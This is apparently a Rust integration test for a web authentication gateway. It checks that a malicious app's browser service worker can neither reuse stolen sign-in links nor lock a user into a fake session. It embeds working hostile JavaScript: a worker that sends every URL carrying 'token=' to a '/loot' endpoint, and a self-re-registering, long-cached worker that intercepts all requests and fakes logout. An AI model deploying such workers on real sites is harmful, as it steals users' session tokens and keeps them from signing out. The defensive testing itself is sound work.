//! Service workers: programs that an app leaves behind in the browser, between the person and the edge.

use http::Method;
use serde_json::json;
use url::{Url, form_urlencoded};

use super::{EVIL, Neighbourhood};
use crate::rig::journey::{BIND, SESSION, bind_hash};
use crate::rig::stage::ONE_SITE;

/// Tells its app of every link with a token that comes by.
const THIEF: &str = "addEventListener('install', () => skipWaiting()); \
    addEventListener('activate', (event) => event.waitUntil(clients.claim())); \
    addEventListener('fetch', (event) => { if (event.request.url.includes('token=')) \
        event.waitUntil(fetch(`/loot?${encodeURIComponent(event.request.url)}`)); });";

#[tokio::test]
async fn what_an_apps_worker_sees_and_answers_neither_lets_others_in_nor_its_owner_out() {
    let hood = Neighbourhood::under(ONE_SITE).await;
    steals_nothing_of_worth(&hood).await;
    locks_nobody_out(&hood).await;
}

/// It sees the link on its way to the edge. Elsewhere the link is worth nothing, and it stays its owner's.
async fn steals_nothing_of_worth(hood: &Neighbourhood) {
    let (tab, page) = (&hood.stage.tab, hood.evil_page("/landed"));
    hood.evil.answer_with("/thief.js", &[("content-type", "text/javascript")], THIEF);
    let register = "async () => { await navigator.serviceWorker.register('/thief.js'); \
        await navigator.serviceWorker.ready; return true; }";
    assert_eq!(hood.attack(register, json!({})).await, true);

    let bind = hood.cookie(&page, BIND).await.expect("a bind cookie");
    let auth = format!("/auth?tunnel={EVIL}&bind={}&return_to=%2Flanded", bind_hash(&bind));
    tab.go(&hood.stage.edge.deployer(&auth)).await;
    tab.click("Sign in with a passkey").await;
    let loot = hood.evil.reached("/loot?").await.target;
    let loot = loot.strip_prefix("/loot?").expect("just seen").as_bytes();
    let (loot, _) = form_urlencoded::parse(loot).next().expect("a link");
    let link = Url::parse(&loot).expect("a link");
    hood.is_in_app(&page).await;

    let thief = hood.stage.edge.visitor();
    thief.navigate(&link).await.must_be(401);
    // With a bind cookie of the thief's own, too.
    let elsewhere = thief.stranger();
    elsewhere.navigate(&page).await.must_be(303);
    let refused = elsewhere.navigate(&link).await.must_be(401);
    assert!(refused.set_cookies().is_empty(), "{refused:?}");
    elsewhere.fetch(Method::GET, &page).await.must_be(401);

    tab.go(&link).await;
    hood.is_in_app(&page).await;
}

/// Answers everything by itself, for as long as it can: its pages register it anew, and it never lets go of an event.
const SQUATTER: &str = "addEventListener('install', () => skipWaiting()); \
    addEventListener('activate', (event) => event.waitUntil(clients.claim())); \
    addEventListener('fetch', (event) => { event.waitUntil(new Promise(() => {})); event.respondWith(new Response( \
        `<p>Answered by the worker<script src='data:text/javascript,${encodeURIComponent(register)}'></script>`, \
        { headers: { 'content-type': 'text/html' } })) }); \
    const register = \"navigator.serviceWorker.register('/squatter.js', { updateViaCache: 'all', scope: '/' })\";";

/// Has the browser keep the script for a year first, under the address that it would be looked up at.
const SQUAT: &str = "async () => { await fetch('/squatter.js').then((answer) => answer.text()); \
    await navigator.serviceWorker.register('/squatter.js', { updateViaCache: 'all', scope: '/' }); \
    return new Promise((done) => { const look = () => { const { controller } = navigator.serviceWorker; \
        if (controller?.scriptURL.endsWith('/squatter.js')) done(true); else setTimeout(look, 20) }; look() }) }";

/// Sees when no worker is in the way of the next page any more.
const WATCH: &str = "setInterval(async () => { \
    window.isFree = !(await navigator.serviceWorker.getRegistration('/')) }, 50)";

/// It takes whatever the browser asks for here, signing out included; and gives way once the session is over.
async fn locks_nobody_out(hood: &Neighbourhood) {
    let tab = &hood.stage.tab;
    let kept =
        [("content-type", "text/javascript"), ("cache-control", "public, max-age=31536000, immutable")];
    hood.evil.answer_with("/squatter.js", &kept, SQUATTER);
    assert_eq!(hood.attack(SQUAT, json!({})).await, true);
    tab.go(&hood.evil_page("/again")).await;
    tab.reads("Answered by the worker").await;
    let logout = "() => fetch('/.patapim/logout', { method: 'POST' }).then((answer) => answer.text())";
    let told = hood.attack(logout, json!({})).await;
    assert!(told.as_str().expect("text").contains("the worker"), "a logout that it feigns: {told}");
    let page = hood.evil_page("/");
    assert!(hood.cookie(&page, SESSION).await.is_some());

    // So it is ended elsewhere, where no worker of an app's can be in the way.
    hood.stage.edge.admin(&["session", "revoke", "--user", "ada"]).await;
    tab.before_each_page(WATCH).await;
    tab.go(&hood.evil_page("/again")).await;
    tab.until("window.isFree || location.pathname === '/auth'").await;
    tab.go(&hood.evil_page("/again")).await;
    tab.until("location.pathname === '/auth'").await;
    tab.click("Sign in with a passkey").await;
    hood.is_in_app(&hood.evil_page("/again")).await;
}
